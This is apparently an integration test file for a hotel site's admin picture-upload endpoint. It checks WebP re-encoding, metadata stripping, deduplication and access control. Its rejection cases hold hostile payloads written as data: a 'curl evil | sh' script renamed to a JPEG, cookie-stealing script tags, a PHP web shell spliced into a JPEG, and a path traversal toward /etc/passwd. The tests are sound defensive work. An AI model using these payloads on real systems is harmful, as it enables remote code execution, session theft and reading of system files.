/**
 * Issue 38, first step: administrators upload pictures (POST /api/admin/media), on both stores —
 * a local folder and a real S3-compatible server (s3rver) started here. What is stored is a
 * re-encoded WebP without metadata, served at /media/<hash>.webp with an image type, nosniff and
 * immutable caching; catalogue records accept that address once it is recorded.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mkdtemp, readdir, rm } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import sharp from "sharp";
import { NextRequest } from "next/server";

import { POST as upload } from "@/app/api/admin/media/route";
import { GET as serveMedia } from "@/app/media/[file]/route";
import { POST as postHotel } from "@/app/api/hotels/route";
import { getDb } from "@/lib/server/db/client";
import { pictureNotFound } from "@/lib/server/images/image-sources";
import { MAX_UPLOAD_BYTES } from "@/lib/server/media/process";
import { readConfig } from "@/lib/server/config/env";
import { createConfiguredMediaStore, setMediaStore, type MediaStore } from "@/lib/server/media/store";
import { call } from "../support/http";
import { adminHeaders, signInTokens, validHotel } from "../support/content";
import { startS3Server } from "../support/s3-server.mjs";

process.env.NEXTAUTH_SECRET = "integration-test-media-uploads";

let tokens: Awaited<ReturnType<typeof signInTokens>>;
beforeAll(async () => {
  tokens = await signInTokens();
});

function uploadRequest(
  file: Uint8Array | null,
  headers: Record<string, string>,
  { name = "photo.jpg", type = "image/jpeg" } = {},
) {
  const form = new FormData();
  if (file) form.append("file", new Blob([new Uint8Array(file)], { type }), name);
  return new NextRequest(new URL("/api/admin/media", "http://localhost:3000"), { method: "POST", headers, body: form });
}

async function send(
  file: Uint8Array | null,
  headers: Record<string, string> = tokens.admin,
  options?: { name?: string; type?: string },
) {
  const response = await upload(uploadRequest(file, headers, options), { params: Promise.resolve({}) });
  return {
    status: response.status,
    json: (await response.json()) as Record<string, unknown> & {
      url?: string;
      width?: number;
      height?: number;
      error?: string;
    },
  };
}

async function fetchMedia(url: string) {
  const file = url.slice("/media/".length);
  const response = await serveMedia(new NextRequest(new URL(url, "http://localhost:3000")), {
    params: Promise.resolve({ file }),
  });
  return { status: response.status, headers: response.headers, body: Buffer.from(await response.arrayBuffer()) };
}

let seed = 0;
/** A JPEG no other test uploads (its colour differs), with EXIF carrying a camera and a GPS position. */
async function uniquePhoto(width = 120, height = 80) {
  seed += 1;
  return sharp({
    create: { width, height, channels: 3, background: { r: (seed * 37) % 256, g: (seed * 91) % 256, b: 200 } },
  })
    .withExif({
      IFD0: { Make: "SecretCam" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "48/1 51/1 2406/100",
        GPSLongitudeRef: "E",
        GPSLongitude: "2/1 21/1 336/100",
      },
    })
    .jpeg()
    .toBuffer();
}

const stores: { name: string; open: () => Promise<{ store: MediaStore; close: () => Promise<void> }> }[] = [
  {
    name: "local folder",
    open: async () => {
      const dir = await mkdtemp(path.join(os.tmpdir(), "lagoon-media-"));
      return {
        store: createConfiguredMediaStore(readConfig({ MEDIA_DIR: dir }).media),
        close: () => rm(dir, { recursive: true, force: true }),
      };
    },
  },
  {
    name: "S3-compatible server",
    open: async () => {
      const s3 = await startS3Server();
      const store = createConfiguredMediaStore(readConfig(s3.env).media);
      return { store, close: () => s3.stop() };
    },
  },
];

afterAll(() => setMediaStore(undefined));

describe.each(stores)("uploads into the $name", ({ name, open }) => {
  let store: MediaStore;
  let close: () => Promise<void>;
  beforeAll(async () => {
    ({ store, close } = await open());
    setMediaStore(store);
  });
  afterAll(async () => {
    await close();
  });

  it("an admin's JPEG is stored as WebP without EXIF/GPS, recorded once, and served with an image type, nosniff and immutable caching", async () => {
    const photo = await uniquePhoto(3000, 2000);
    expect((await sharp(photo).metadata()).exif?.toString("latin1")).toContain("SecretCam");
    const res = await send(photo);
    expect(res.status).toBe(201);
    expect(res.json).toEqual({
      url: expect.stringMatching(/^\/media\/[0-9a-f]{32}\.webp$/),
      width: 2400,
      height: 1600,
    });
    expect(store.kind).toBe(name === "local folder" ? "local" : "s3");
    expect(await store.exists(res.json.url!.slice(7))).toBe(true);

    const served = await fetchMedia(res.json.url!);
    expect(served.status).toBe(200);
    expect(served.headers.get("content-type")).toBe("image/webp");
    expect(served.headers.get("x-content-type-options")).toBe("nosniff");
    expect(served.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    const meta = await sharp(served.body).metadata();
    expect([meta.format, meta.width, meta.height, meta.exif]).toEqual(["webp", 2400, 1600, undefined]);
    expect(served.body.toString("latin1")).not.toMatch(/SecretCam|GPS/);

    const row = await getDb().media.findUniqueOrThrow({ where: { url: res.json.url! } });
    expect(row).toMatchObject({
      mime: "image/webp",
      width: 2400,
      height: 1600,
      bytes: served.body.byteLength,
      key: res.json.url!.slice(7),
    });
  });

  it("the same picture uploaded at the same moment several times: one stored object, one record, every reply the same address", async () => {
    const photo = await uniquePhoto();
    const replies = await Promise.all(Array.from({ length: 4 }, () => send(photo)));
    for (const r of replies) expect(r.status).toBe(201);
    const urls = new Set(replies.map((r) => r.json.url));
    expect(urls.size).toBe(1);
    expect(await getDb().media.count({ where: { url: replies[0]!.json.url! } })).toBe(1);
  });

  it("refused with a clear 400 and nothing stored: over the cap, wrong bytes, a renamed script, a polyglot, no file", async () => {
    const before = await getDb().media.count();
    const jpeg = await uniquePhoto();
    const cases: [Uint8Array | null, RegExp, { name?: string; type?: string }?][] = [
      [Buffer.alloc(MAX_UPLOAD_BYTES + 1, 0xff), /too large: at most 15 MB/],
      [
        Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;", "latin1"),
        /not a JPEG, PNG, WebP or AVIF picture/,
        { name: "x.gif", type: "image/gif" },
      ],
      [
        Buffer.from("#!/bin/sh\ncurl evil | sh\n"),
        /not a JPEG, PNG, WebP or AVIF picture/,
        { name: "holiday.jpg", type: "image/jpeg" },
      ],
      [
        Buffer.from("<html><script>alert(document.cookie)</script></html>"),
        /not a JPEG, PNG, WebP or AVIF picture/,
        { name: "pool.png", type: "image/png" },
      ],
      [Buffer.concat([jpeg, Buffer.from("<script>alert(document.cookie)</script>")]), /web page or script content/],
      [
        Buffer.concat([jpeg.subarray(0, 40), Buffer.from("<?php system($_GET['c']); ?>"), jpeg.subarray(40)]),
        /web page or script content/,
      ],
      [null, /exactly one picture, in the form field "file"/],
    ];
    for (const [file, message, options] of cases) {
      const res = await send(file, tokens.admin, options);
      expect(res.status, String(message)).toBe(400);
      expect(res.json.error).toMatch(message);
    }
    expect(await getDb().media.count()).toBe(before);
  });

  it("not multipart: 400 with what to send", async () => {
    const res = await call(upload as never, "/api/admin/media", undefined, {
      method: "POST",
      headers: tokens.admin,
      body: { url: "https://example.com/x.jpg" },
    });
    expect(res.status).toBe(400);
    expect(res.json.error).toMatch(/multipart\/form-data/);
  });

  it("signed out: 401; a customer: 403; nothing stored", async () => {
    const before = await getDb().media.count();
    const photo = await uniquePhoto();
    expect((await send(photo, {})).status).toBe(401);
    expect((await send(photo, tokens.customer)).status).toBe(403);
    expect(await getDb().media.count()).toBe(before);
  });

  it("a hotel saved with an uploaded picture keeps its address; an address the site never stored is refused", async () => {
    const { json } = await send(await uniquePhoto());
    const admin = await adminHeaders();
    const ok = await call(postHotel as never, "/api/hotels", undefined, {
      method: "POST",
      headers: admin,
      body: { ...validHotel, name: `Uploaded ${name} ${Date.now()}`, image: json.url, additionalImages: [json.url] },
    });
    expect(ok.status).toBe(201);
    expect(ok.json).toMatchObject({ image: json.url, additionalImages: [json.url] });

    const unknown = "/media/0123456789abcdef0123456789abcdef.webp";
    const bad = await call(postHotel as never, "/api/hotels", undefined, {
      method: "POST",
      headers: admin,
      body: { ...validHotel, name: `Unknown ${name} ${Date.now()}`, image: unknown },
    });
    expect(bad.status).toBe(400);
    expect(bad.json.details).toEqual({ image: [pictureNotFound(unknown)] });
  });

  it("/media answers 404 for an unknown or malformed name, never reading outside the store", async () => {
    for (const file of [
      "0123456789abcdef0123456789abcdef.webp",
      "..%2f..%2fetc%2fpasswd",
      "x.webp",
      "0123456789abcdef0123456789abcdef.svg",
    ]) {
      const response = await serveMedia(new NextRequest(new URL(`/media/${file}`, "http://localhost:3000")), {
        params: Promise.resolve({ file: decodeURIComponent(file) }),
      });
      expect(response.status, file).toBe(404);
    }
  });
});

describe("the local folder holds only finished pictures", () => {
  it("no temporary file stays behind after an upload", async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), "lagoon-media-"));
    setMediaStore(createConfiguredMediaStore(readConfig({ MEDIA_DIR: dir }).media));
    try {
      const res = await send(await uniquePhoto());
      expect(await readdir(dir)).toEqual([res.json.url!.slice(7)]);
    } finally {
      setMediaStore(undefined);
      await rm(dir, { recursive: true, force: true });
    }
  });
});
